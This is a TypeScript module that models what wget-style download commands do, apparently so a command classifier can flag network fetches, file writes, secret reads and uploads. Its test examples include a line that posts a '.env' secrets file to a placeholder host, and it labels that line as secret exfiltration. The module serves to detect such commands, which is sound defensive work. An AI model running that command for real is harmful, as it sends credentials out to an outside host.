/** wget, and what downloads as it does. */
import type { EffectDraft } from '../../../../effects/effect';
import { type Call, type ProgramSpec, together } from '../../program';
import type { Run, Word } from '../../spec';
import { reads, sourceOfFile, sourceOfWord, when, writes } from '../../stating';
import { carriesData, changes, fetches, hidden, network, uploads, writtenByName } from './requests';

export const wget: ProgramSpec = {
  names: 'wget wget2 aria2c axel',
  options:
    '-O,--output-document=FILE -o,--output-file=F -a,--append-output=F -P,--directory-prefix=D -i,--input-file=F --post-data=D --post-file=F --body-data=D --body-file=F --method=M --header=H -U,--user-agent=A --user=U --password=P -t,--tries=N -T,--timeout=S -w,--wait=S -Q,--quota=Q -l,--level=N -A,--accept=L -R,--reject=L -D,--domains=L -I=L -X=L -e,--execute=C --limit-rate=R -B=U --load-cookies=F --save-cookies=F --referer=U --use-askpass=C --ca-certificate=F -d,--dir=D -x=N -s=N -n=N -r,--recursive -np -nc -c,--continue -q,--quiet -nv -S --spider -N -p -k -m,--mirror -E -H -b -v --no-check-certificate --show-progress',
  operandsNeeded: 1,
  does(call) {
    const urls = call.operands;
    const files = call.words('--post-file', '--body-file');
    const bodies = call.words('--post-data', '--body-data');
    const sources = [
      ...files.map((word) => sourceOfFile(call, word)),
      ...[...bodies, ...[...call.words('--header', '-U', '--referer'), ...urls].filter(carriesData)].map(sourceOfWord),
    ];
    const named = call.words('-O');
    const directory = call.words('-P').at(-1);
    const saved =
      named.length > 0 ? named : writtenByName(urls).map((word) => (directory ? within(directory, word) : word));
    const runs = call
      .words('--use-askpass')
      .map((word): Run => ({ type: 'shell', text: word.value, label: 'wget --use-askpass' }));
    return together(
      { effects: [...fetches(call, urls), ...fetchesListed(call)], runs, output: network },
      reads(call, [...files, ...call.words('-i')], { shown: false }),
      uploads(urls, sources),
      hidden(call, urls),
      changes(methodOf(call), urls, files.length + bodies.length > 0),
      call.has('--spider') === true
        ? []
        : writes(
            call,
            saved.filter((word) => word.value !== '/dev/null'),
            'overwrite',
          ),
    );
  },
  examples: {
    yields: {
      'wget https://example.com/a.tgz': 'net.fetch{host=example.com} + fs.write',
      'wget -qO- https://example.com/i.sh': 'net.fetch',
      'wget -P build https://example.com/a': 'net.fetch + fs.write{path=/repo/build/a}',
      'wget --post-file=.env https://x.test':
        'net.fetch + fs.read + secret.read + net.upload{source=secret} + fs.write',
      'wget --method=DELETE -qO- https://api.acme.test/users/1': 'net.fetch + saas.change{op=delete}',
    },
    inert: ['wget --version'],
  },
};

function methodOf(call: Call): string | null | undefined {
  const method = call.words('--method').at(-1)?.value;
  return typeof method === 'string' ? method.toUpperCase() : method === undefined ? undefined : null;
}

/** `-i FILE`: addresses that stand in a file, and names that follow from them. */
function fetchesListed(call: Call): EffectDraft[] {
  const zone = call.invocation.surroundings.fileTarget('.', call.invocation.cwd).zone ?? null;
  return when(
    call.words('-i').length > 0,
    { kind: 'net.fetch', host: null },
    { kind: 'fs.write', zone, mode: 'overwrite', extent: 'bounded' },
  );
}

/** A name below a directory. */
function within(directory: Word, name: Word): Word {
  const known = typeof directory.value === 'string' && typeof name.value === 'string';
  return { ...name, value: known ? `${directory.value}/${name.value}` : directory.value };
}
